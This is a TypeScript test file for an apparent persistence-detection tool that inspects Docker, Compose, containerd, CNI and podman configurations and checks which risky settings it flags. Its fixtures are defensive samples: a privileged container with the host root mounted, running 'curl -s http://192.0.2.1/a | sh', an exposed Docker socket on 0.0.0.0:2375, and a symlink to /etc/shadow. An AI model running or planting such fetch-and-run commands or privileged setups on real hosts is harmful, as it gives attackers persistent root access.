import { describe, expect, test } from 'bun:test';
import { gatherFrom } from '../../../../test/persistence/gather.ts';
import type { PersistenceFact } from '../../../model/facts/persistence.ts';
import { mechanismGroups } from '../../../model/mechanism.ts';
import type { SourceLog } from '../../../model/source-log.ts';
import { containersCases } from './cases.fixture.ts';
import { compose } from './compose.ts';
import { containerdSettings } from './containerd.ts';
import { dockerFiles } from './docker.fixture.ts';
import { dockerContainers } from './docker-container.ts';
import { dockerSettings } from './docker-daemon.ts';
import { containersArtifacts } from './index.ts';
import { podman } from './podman.ts';

type Recorded = Parameters<typeof gatherFrom>[1];

/** Files of a fixture as a recorded host takes them. */
const recorded = (files: ReturnType<typeof dockerFiles>): Recorded =>
  Object.fromEntries(
    Object.entries(files).flatMap(([path, file]) =>
      typeof file === 'string' || file instanceof Uint8Array ? [[path, file]] : [],
    ),
  );
const passwd = { '/etc/passwd': 'root:x:0:0::/root:/bin/sh\nada:x:1000:1000::/home/ada:/bin/sh\n' };
const lines = (entries: readonly PersistenceFact[]) =>
  entries.map(({ source, command, marks }) => [source.line ?? 0, String(command), ...marks]);
const statuses = (log: SourceLog) =>
  log.listed
    .filter(({ status }) => status !== 'absent')
    .map(({ status, reason }) => `${status} ${reason ?? ''}`);

test('every case is told under its mechanism, and every mechanism has all four dresses', async () => {
  const dresses = new Map<string, Set<string>>();
  for (const one of containersCases) {
    const files = { ...passwd, ...recorded({ ...one.packaged, ...one.planted }) };
    const own = containersArtifacts.filter(({ mechanisms }) => mechanisms.includes(one.mechanism));
    const gathered = await Promise.all(own.map((artifact) => gatherFrom(artifact, files)));
    expect([one.what, gathered.some(({ entries }) => entries.length > 0)]).toEqual([one.what, true]);
    dresses.set(one.mechanism, (dresses.get(one.mechanism) ?? new Set()).add(one.dress));
  }
  for (const mechanism of mechanismGroups.containers) expect(dresses.get(mechanism)?.size).toBe(4);
});

describe('containers of Docker', () => {
  test('state that is larger than state can be stops nothing but itself', async () => {
    const image = { image: 'alpine', name: 'x', path: 'sh', args: ['-c', 'true'] };
    const large = `/var/lib/docker/containers/${'0'.repeat(64)}/config.v2.json`;
    const { entries, log } = await gatherFrom(dockerContainers, {
      [large]: new Uint8Array(65 << 20),
      ...recorded(dockerFiles({ ...image, host: { RestartPolicy: { Name: 'always' } } })),
    });
    expect(entries.length).toBeGreaterThan(0);
    expect(log.listed.filter(({ source }) => source === large)).toMatchObject([{ status: 'truncated' }]);
  });

  test('their command, what brings them back, and what of the host they reach', async () => {
    const { entries } = await gatherFrom(
      dockerContainers,
      recorded(
        dockerFiles({
          image: 'alpine',
          name: 'x',
          path: 'sh',
          args: ['-c', 'curl -s http://192.0.2.1/a | sh'],
          host: { RestartPolicy: { Name: 'always' }, Binds: ['/:/mnt'], Privileged: true, PidMode: 'host' },
        }),
      ),
    );
    expect(entries).toMatchObject([
      {
        mechanism: 'docker-container',
        user: 'root',
        trigger: 'boot, restart always',
        command: "sh -c 'curl -s http://192.0.2.1/a | sh'",
        language: 'argv',
        active: true,
        marks: ['restarts', 'host-access'],
        text: "x (alpine): sh -c 'curl -s http://192.0.2.1/a | sh' [created 2026-03-02T04:05:05; privileged; pid of the host; / at /mnt]",
      },
    ]);
  });

  test('one that was stopped and has no policy is not active', async () => {
    const { entries } = await gatherFrom(
      dockerContainers,
      recorded(
        dockerFiles({
          image: 'a',
          name: 'x',
          path: 'sh',
          running: false,
          host: { RestartPolicy: { Name: '' } },
        }),
      ),
    );
    expect(entries).toMatchObject([{ active: false, trigger: 'by hand', marks: [] }]);
  });

  test('are found below the root that settings or options name, and below homes', async () => {
    const one = (base: string) => recorded(dockerFiles({ image: 'a', name: base, path: 'x' }, base));
    const { entries } = await gatherFrom(dockerContainers, {
      ...passwd,
      '/etc/docker/daemon.json': '{"data-root":"/srv/d"}',
      '/etc/default/docker': 'DOCKER_OPTS="--data-root=/mnt/e"\n',
      ...one('/srv/d'),
      ...one('/mnt/e'),
      ...one('/home/ada/.local/share/docker'),
    });
    expect(entries.map(({ source }) => source.source.split('/containers/')[0])).toEqual([
      '/srv/d',
      '/mnt/e',
      '/home/ada/.local/share/docker',
    ]);
  });

  test('that are too many, too deep or no JSON are told by their status', async () => {
    const many = Object.fromEntries(
      Array.from({ length: 10_000 }, (_, at) => [`/var/lib/docker/containers/c${at}/config.v2.json`, '{}']),
    );
    const crowd = await gatherFrom(dockerContainers, many);
    expect(crowd.entries.length).toBe(2_000);
    expect(statuses(crowd.log)).toContain('truncated more than 2,000 containers');

    const broken = await gatherFrom(dockerContainers, {
      '/var/lib/docker/containers/a/config.v2.json': `${'['.repeat(5_000)}`,
      '/var/lib/docker/containers/b/config.v2.json': '{"Path":',
      '/var/lib/docker/containers/c/config.v2.json': { status: 'denied', reason: 'EACCES' },
      '/var/lib/docker/containers/d/config.v2.json': `{"Path":"${'x'.repeat(5 << 20)}"}`,
      '/var/lib/docker/containers/e/config.v2.json': '{"Path":7,"Args":{},"Name":[],"Config":"x"}',
    });
    expect(broken.entries.map(({ command }) => String(command))).toEqual(['']);
    const told = statuses(broken.log);
    for (const wanted of ['error nested too deep', 'error not JSON', 'denied EACCES', 'truncated '])
      expect(told).toContain(wanted);
  });

  test('names and ids that act on a screen are escaped', async () => {
    const { entries } = await gatherFrom(dockerContainers, {
      '/var/lib/docker/containers/a/config.v2.json': '{"Name":"/\\u001b[2Jx","Path":"a\\u202eb"}',
    });
    expect(String(entries[0]?.text)).toBe("%1B[2Jx: 'a%E2%80%AEb'");
  });
});

describe('settings of Docker', () => {
  test('an open socket, foreign mirrors and a runtime, each on its line', async () => {
    const { entries } = await gatherFrom(dockerSettings, {
      '/etc/docker/daemon.json':
        '{\n "hosts": ["tcp://0.0.0.0:2375", "tcp://127.0.0.1:2375", "fd://"],\n "registry-mirrors": ["http://192.0.2.1"],\n "insecure-registries": ["registry.example.com", "10.0.0.1"],\n "runtimes": {\n  "x": {"path": "/opt/x/run"}\n }\n}\n',
    });
    expect(lines(entries)).toEqual([
      [2, 'hosts=tcp://0.0.0.0:2375', 'opens-access'],
      [2, 'hosts=tcp://127.0.0.1:2375'],
      [2, 'hosts=fd://'],
      [4, 'insecure-registries=registry.example.com', 'weakens-guard'],
      [4, 'insecure-registries=10.0.0.1'],
      [3, 'registry-mirrors=http://192.0.2.1', 'foreign-host'],
      [6, 'runtimes.x=/opt/x/run'],
    ]);
    expect(String(entries.at(-1)?.target)).toBe('/opt/x/run');
  });

  test('options of the daemon, but not in comments; certificates make a socket milder', async () => {
    const { entries } = await gatherFrom(dockerSettings, {
      '/etc/default/docker':
        '# -H tcp://0.0.0.0:1\nDOCKER_OPTS="-H tcp://0.0.0.0:2375"\nOTHER="--tlsverify --host=tcp://0.0.0.0:2376"\n',
    });
    expect(lines(entries)).toEqual([
      [2, 'hosts=tcp://0.0.0.0:2375', 'opens-access'],
      [3, 'hosts=tcp://0.0.0.0:2376', 'weakens-guard'],
    ]);
  });

  test('programs of the client: helpers, plugins of homes and of further folders', async () => {
    const { entries } = await gatherFrom(dockerSettings, {
      ...passwd,
      '/home/ada/.docker/config.json':
        '{"credHelpers":{"r":"ecr-login","s":"../x"},"credsStore":"pass","cliPluginsExtraDirs":["/opt/p"]}',
      '/home/ada/.docker/cli-plugins/docker-scan': '',
      '/opt/p/docker-x': '',
    });
    expect(entries.map(({ user, command }) => `${user} ${command}`)).toEqual([
      'ada docker-credential-ecr-login get',
      'ada docker-credential-pass get',
      'ada /opt/p/docker-x',
      'ada /home/ada/.docker/cli-plugins/docker-scan',
    ]);
  });

  test('that are no JSON are told', async () => {
    const { entries, log } = await gatherFrom(dockerSettings, { '/etc/docker/daemon.json': '{"hosts":' });
    expect(entries).toEqual([]);
    expect(statuses(log)).toContain('error not JSON');
  });
});

describe('Compose', () => {
  test('tells services with their lines, and files that a container names', async () => {
    const yaml =
      'services:\n  web:\n    image: nginx\n  job:\n    image: alpine\n    restart: always\n    volumes: [./bin:/b]\n    command: ["/b/run"]\n';
    const { entries } = await gatherFrom(compose, {
      '/opt/a/docker-compose.yml': yaml,
      '/mnt/far/my.yml': yaml,
      '/opt/a/other.yml': yaml,
      ...recorded(
        dockerFiles({
          image: 'a',
          name: 'x',
          path: 'x',
          labels: { 'com.docker.compose.project.config_files': '/mnt/far/my.yml' },
        }),
      ),
    });
    expect(entries.map(({ source, target }) => `${source.source}:${source.line} ${target ?? ''}`)).toEqual([
      '/opt/a/docker-compose.yml:2 ',
      '/opt/a/docker-compose.yml:8 /opt/a/bin/run',
      '/mnt/far/my.yml:2 ',
      '/mnt/far/my.yml:8 /mnt/far/bin/run',
    ]);
  });

  test('does not follow links, and says what it could not read', async () => {
    const { entries, log } = await gatherFrom(compose, {
      '/opt/a/compose.yml': { link: '/etc/shadow' },
      '/opt/b/compose.yml': 'a: [\n',
      '/opt/c/compose.yml': { status: 'denied', reason: 'EACCES' },
      '/opt/d/compose.yml': '',
    });
    expect(entries).toEqual([]);
    expect(statuses(log)).toContain('error not YAML');
    expect(statuses(log)).toContain('denied EACCES');
  });

  test('in a crowd of folders stops and says so', async () => {
    const files = Object.fromEntries(Array.from({ length: 5_000 }, (_, at) => [`/opt/f${at}/x/y`, '']));
    const { log } = await gatherFrom(compose, files);
    expect(statuses(log)).toContain('truncated more folders or files than are looked at');
  });
});

describe('containerd, networks and registries', () => {
  test('programs and mirrors are told, usual runtimes are not', async () => {
    const { entries } = await gatherFrom(containerdSettings, {
      '/etc/containerd/config.toml':
        'version = 2\nimports = ["/etc/containerd/conf.d/*.toml"]\n[grpc]\n tcp_address = "0.0.0.0:1"\n[plugins.cri.containerd.runtimes.runc]\n runtime_type = "io.containerd.runc.v2"\n[plugins.cri.containerd.runtimes.runc.options]\n BinaryName = "/opt/x/runc"\n[stream_processors.x]\n path = "/opt/x/dec"\n[plugins.cri.registry.mirrors."docker.io"]\n endpoint = ["http://192.0.2.1"]\n',
      '/etc/containerd/certs.d/docker.io/hosts.toml':
        '[host."http://192.0.2.2:5000"]\n capabilities = ["pull"]\n',
      '/etc/rancher/k3s/registries.yaml':
        'mirrors:\n  docker.io:\n    endpoint:\n      - "http://10.0.0.1"\n',
    });
    expect(lines(entries)).toEqual([
      [2, 'imports=/etc/containerd/conf.d/*.toml'],
      [4, 'tcp_address=0.0.0.0:1', 'opens-access'],
      [8, 'BinaryName=/opt/x/runc'],
      [10, 'path=/opt/x/dec'],
      [12, 'endpoint=http://192.0.2.1', 'foreign-host'],
      [2, 'host=http://192.0.2.2:5000', 'foreign-host'],
      [4, 'endpoint=http://10.0.0.1'],
    ]);
  });

  test('plugins of networks are found where they lie; plugins of NRI are told', async () => {
    const { entries } = await gatherFrom(containerdSettings, {
      '/etc/cni/net.d/1.conflist':
        '{"plugins":[{"type":"bridge","ipam":{"type":"host-local"}},{"type":"../../x y"},{"type":"/tmp/p"}]}',
      '/opt/cni/bin/bridge': '',
      '/opt/nri/plugins/10-x': '#!/bin/sh\nid\n',
      '/etc/cni/net.d/2.conf': '{',
    });
    expect(entries.map(({ command, target }) => `${command} ${target ?? ''}`)).toEqual([
      '/opt/cni/bin/bridge /opt/cni/bin/bridge',
      'type=host-local ',
      '/tmp/p /tmp/p',
      ' /opt/nri/plugins/10-x',
    ]);
  });
});

describe('podman', () => {
  test('quadlets of the system and of homes, their drop-ins and manifests', async () => {
    const { entries } = await gatherFrom(podman, {
      ...passwd,
      '/etc/containers/systemd/a.container': '[Container]\nImage=x\nExec=run\n',
      '/etc/containers/systemd/a.container.d/9.conf': '[Service]\nExecStartPre=/opt/pre\n',
      '/etc/containers/systemd/b.kube': '[Kube]\nYaml=b.yaml\n',
      '/etc/containers/systemd/b.yaml': 'kind: Pod\nspec: {containers: [{name: c, command: [pod]}]}\n',
      '/etc/containers/systemd/users/1000/c.container': '[Container]\nImage=y\n',
      '/home/ada/.config/containers/systemd/d.container': '[Container]\nImage=z\n[Install]\nWantedBy=x\n',
    });
    expect(entries.map(({ user, command, trigger }) => `${user} ${command} ${trigger}`)).toEqual([
      'root run start of the unit',
      'root pod start of the unit',
      'root /opt/pre start of the unit',
      'ada  boot',
      'ada  start of the unit',
    ]);
  });

  test('stored containers by their bundle; an id that is a path is none', async () => {
    const id = 'a'.repeat(64);
    const storage = '/var/lib/containers/storage/overlay-containers';
    const { entries } = await gatherFrom(podman, {
      [`${storage}/containers.json`]: JSON.stringify([
        { id, names: ['web'], metadata: '{"image-name":"alpine"}' },
        { id: '../../../../etc' },
        7,
      ]),
      [`${storage}/${id}/userdata/config.json`]: JSON.stringify({
        process: { args: ['sh', '-c', 'x'], user: { uid: 0 } },
        mounts: [{ source: '/', destination: '/h', options: ['rbind', 'rw'] }],
        linux: { namespaces: [{ type: 'mount' }, { type: 'network' }] },
      }),
    });
    expect(lines(entries)).toEqual([[0, 'sh -c x', 'host-access']]);
    expect(String(entries[0]?.text)).toBe('web (alpine): sh -c x [container; pid of the host; / at /h]');
  });

  test('hooks, and settings that run something unusual or bind / into all', async () => {
    const { entries } = await gatherFrom(podman, {
      '/etc/containers/containers.conf':
        '[containers]\nvolumes = ["/:/h"]\n[engine]\nhooks_dir = ["/opt/hooks"]\nruntime = "crun"\nconmon_path = ["/usr/bin/conmon"]\n[engine.runtimes]\ncrun = ["/opt/crun"]\n',
      '/opt/hooks/1.json':
        '{"version":"1.0.0","hook":{"path":"/opt/h","args":["h","pre"]},"stages":["prestart"]}',
      '/etc/containers/registries.conf': '[[registry]]\nlocation = "192.0.2.1:5000"\ninsecure = true\n',
    });
    expect(lines(entries)).toEqual([
      [0, '/opt/h pre'],
      [2, 'volumes=/:/h', 'host-access'],
      [4, 'hooks_dir=/opt/hooks'],
      [8, 'crun=/opt/crun'],
      [2, 'location=192.0.2.1:5000', 'foreign-host'],
    ]);
  });
});

test('a host without containers tells nothing', async () => {
  for (const artifact of containersArtifacts) {
    const { entries } = await gatherFrom(artifact, { ...passwd, '/root/': '', '/home/ada/': '' });
    expect(entries).toEqual([]);
  }
});
